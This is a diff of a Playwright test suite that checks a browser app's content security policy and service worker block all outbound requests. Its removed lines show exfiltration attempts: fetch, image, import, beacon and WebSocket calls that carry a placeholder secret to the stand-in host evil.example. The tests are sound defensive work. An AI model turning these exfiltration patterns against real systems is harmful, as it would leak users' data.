@@ -1,16 +1,59 @@
 import { readFileSync } from 'node:fs';
+import type { ServerResponse } from 'node:http';
 import path from 'node:path';
+import type { Page, Worker } from '@playwright/test';
 import { builtSite } from '../scripts/build.mjs';
+import { attemptFromPage, attemptFromWorker } from './attempts.ts';
 import { expect, test } from './fixtures.ts';
+import type { Site } from './site.ts';
 
 const secret = 'what-a-person-typed';
 
+/** The headers that the build gives each path of the site. */
+function builtHeaders(): Record<string, Record<string, string>> {
+  const table = readFileSync(path.join(builtSite, 'headers.json'), 'utf8');
+  return (JSON.parse(table) as { paths: Record<string, Record<string, string>> }).paths;
+}
+
 /** Every address that the site's own code may ask the site for. */
 function listed(): (url: string) => boolean {
-  const headers = readFileSync(path.join(builtSite, 'headers.json'), 'utf8');
-  const { paths } = JSON.parse(headers) as { paths: Record<string, unknown> };
+  const paths = builtHeaders();
   return (url) =>
     url === '/' || url === '/?lang=ar' || url in paths || /^\/models\/[\w./-]+$/.test(url);
+}
+
+/** What was asked for; without the browser's own look for a new version of the service worker. */
+function asked(site: Site): string[] {
+  return site.requests.filter((url) => url !== '/service-worker.js');
+}
+
+function engineOf(page: Page): Worker {
+  const engine = page.workers().find((worker) => worker.url().includes('/workers/engine-'));
+  if (engine === undefined) throw new Error('The page has no engine worker.');
+  return engine;
+}
+
+/**
+ * Serves a classic worker that makes the attempts when it starts. The engine's own script is a
+ * module, and a module has no `importScripts` that its policy could forbid.
+ */
+function serveProbe(site: Site, headers: Record<string, string> = {}): void {
+  const script = `(${String(attemptFromWorker)})(${JSON.stringify(secret)}).then(postMessage);`;
+  site.faults.set('/workers/probe.js', (_request, response: ServerResponse) =>
+    response.writeHead(200, { ...headers, 'Content-Type': 'text/javascript' }).end(script),
+  );
+}
+
+/** What went through in the worker of {@link serveProbe}. */
+function probe(page: Page): Promise<string[]> {
+  return page.evaluate(
+    () =>
+      new Promise<string[]>((resolve, reject) => {
+        const worker = new Worker('/workers/probe.js');
+        worker.onmessage = ({ data }: MessageEvent<string[]>) => resolve(data);
+        worker.onerror = ({ message }) => reject(new Error(`The probe failed: ${message}`));
+      }),
+  );
 }
 
 test('only listed addresses are asked for, and none while the model answers', async ({
@@ -31,75 +74,110 @@ test('only listed addresses are asked for, and none while the model answers', as
   site.forget();
   await app.ask('What is asthma?');
   await app.ask('What is a stroke?');
-  expect(site.requests).toEqual([]);
+  expect(asked(site)).toEqual([]);
 });
 
 test('the page cannot send anything, not even to its own site', async ({ ready, site, egress }) => {
   site.forget();
-  const blocked = await ready.page.evaluate(async (text) => {
-    const outcomes: string[] = [];
-    const attempt = async (name: string, action: () => Promise<unknown>): Promise<void> => {
-      await action().then(
-        () => outcomes.push(`${name} went through`),
-        () => undefined,
-      );
-    };
-    const image = (src: string): Promise<unknown> => {
-      const element = new Image();
-      element.src = src;
-      return element.decode();
-    };
-    for (const address of ['/', '/models/catalog.json', 'https://evil.example/']) {
-      await attempt(`fetch ${address}`, () => fetch(`${address}?${text}`));
-      await attempt(`image ${address}`, () => image(`${address}?${text}`));
-      await attempt(`import ${address}`, () => import(/* @vite-ignore */ `${address}?${text}`));
-    }
-    await attempt('image by path', () => image(`/models/${text}.png`));
-    navigator.sendBeacon(`/?${text}`, text);
-    const socket = new WebSocket(`wss://evil.example/${text}`);
-    await attempt(
-      'socket',
-      () =>
-        new Promise((resolve, reject) => {
-          socket.onopen = resolve;
-          socket.onerror = reject;
-        }),
-    );
-    return outcomes;
+  expect(await ready.page.evaluate(attemptFromPage, secret)).toEqual([]);
+  // The policy lets a page load scripts and images of its site; the service worker looks closer.
+  const loaded = await ready.page.evaluate(async (text) => {
+    const image = (src: string): Promise<void> =>
+      Object.assign(new Image(), { src: `${src}?${text}` }).decode();
+    const outcomes = await Promise.allSettled([
+      image('/'),
+      image('/icon.svg'),
+      image(`/models/${text}.png`),
+      import(/* @vite-ignore */ `/?${text}`),
+      import(/* @vite-ignore */ `/models/catalog.json?${text}`),
+    ]);
+    return outcomes.filter(({ status }) => status === 'fulfilled');
   }, secret);
-  expect(blocked).toEqual([]);
-  expect(site.requests).toEqual([]);
+  expect(loaded).toEqual([]);
+  expect(asked(site)).toEqual([]);
   expect(egress.attempts).toEqual([]);
 });
 
 test('the engine worker cannot send anything at all', async ({ ready, site, egress }) => {
   site.forget();
-  const engine = ready.page.workers().find((worker) => worker.url().includes('/workers/engine-'));
-  expect(engine).toBeDefined();
-  const blocked = await engine?.evaluate(async (text) => {
-    const outcomes: string[] = [];
-    for (const address of ['/', '/models/catalog.json', 'https://evil.example/']) {
-      const url = new URL(`${address}?${text}`, location.href).href;
-      await fetch(url).then(
-        () => outcomes.push(`fetch ${url}`),
-        () => undefined,
-      );
-      await import(/* @vite-ignore */ url).then(
-        () => outcomes.push(`import ${url}`),
-        () => undefined,
-      );
-    }
-    const socket = new WebSocket(`wss://evil.example/${text}`);
-    await new Promise<void>((resolve) => {
-      socket.onopen = () => {
-        outcomes.push('socket');
-        resolve();
-      };
-      socket.onerror = () => resolve();
-    });
-    return outcomes;
-  }, secret);
-  expect(blocked).toEqual([]);
-  expect(site.requests).toEqual([]);
+  expect(await engineOf(ready.page).evaluate(attemptFromWorker, secret)).toEqual([]);
+  expect(asked(site)).toEqual([]);
   expect(egress.attempts).toEqual([]);
+});
+
+test.describe('with no service worker, so that only the policies hold', () => {
+  test.use({ serviceWorkers: 'block' });
+
+  test.afterEach(({ site }) => {
+    site.faults.clear();
+  });
+
+  test('the page cannot fetch, embed or post anything', async ({ app, site, egress }) => {
+    await app.open();
+    await app.page.waitForLoadState('networkidle');
+    site.forget();
+    expect(await app.page.evaluate(attemptFromPage, secret)).toEqual([]);
+    expect(asked(site)).toEqual([]);
+    expect(egress.attempts).toEqual([]);
+  });
+
+  test('the engine worker cannot send anything at all', async ({ app, site, egress }) => {
+    await app.open();
+    await app.page.waitForLoadState('networkidle');
+    const [script = '', headers] =
+      Object.entries(builtHeaders()).find(([file]) => file.startsWith('/workers/engine-')) ?? [];
+    await app.page.evaluate((url) => {
+      // Kept, so that it is not collected.
+      Reflect.set(window, 'kept', new Worker(url, { type: 'module' }));
+    }, script);
+    await expect
+      .poll(() => app.page.workers().map((worker) => worker.url()))
+      .toContainEqual(expect.stringContaining(script));
+    site.forget();
+    expect(await engineOf(app.page).evaluate(attemptFromWorker, secret)).toEqual([]);
+    expect(asked(site)).toEqual([]);
+
+    serveProbe(site, headers);
+    expect(await probe(app.page)).toEqual([]);
+    expect(asked(site)).toEqual(['/workers/probe.js']);
+    expect(egress.attempts).toEqual([]);
+  });
+
+  test('without a policy, each of these attempts would arrive', async ({ page, site, egress }) => {
+    /** What each server heard of, by the attempts' own names. */
+    const arrived = (): { here: string[]; elsewhere: string[] } => {
+      const here = site.requests.map((url) => url.replace(`?${secret}`, ''));
+      const elsewhere = egress.attempts.map((host) => host.replace('.example:443', ''));
+      site.forget();
+      egress.attempts = [];
+      return { here: [...new Set(here)].sort(), elsewhere: [...new Set(elsewhere)].sort() };
+    };
+    site.faults.set('/bare', (_request, response) =>
+      response
+        .writeHead(200, { 'Content-Type': 'text/html' })
+        .end('<!doctype html><link rel="icon" href="data:," />'),
+    );
+    await page.goto('/bare');
+    site.forget();
+    await page.evaluate(attemptFromPage, secret);
+    const both = ['events', 'fetch', 'post', 'request', 'socket'];
+    const ofPage = ['beacon', 'object', 'video', ...both];
+    expect(arrived()).toEqual({
+      here: [
+        '/',
+        '/models/catalog.json',
+        ...['form', 'frame', ...ofPage].map((kind) => `/${kind}`),
+      ].sort(),
+      elsewhere: ['image', 'import', 'prefetch', 'style', ...ofPage].sort(),
+    });
+
+    serveProbe(site);
+    await probe(page);
+    const ofWorker = ['font', 'import', 'scripts', ...both];
+    const plain = ['/', '/index.html', '/models/catalog.json', '/workers/probe.js'];
+    expect(arrived()).toEqual({
+      here: [...plain, ...['worker', ...ofWorker].map((kind) => `/${kind}`)].sort(),
+      elsewhere: ofWorker.sort(),
+    });
+  });
 });
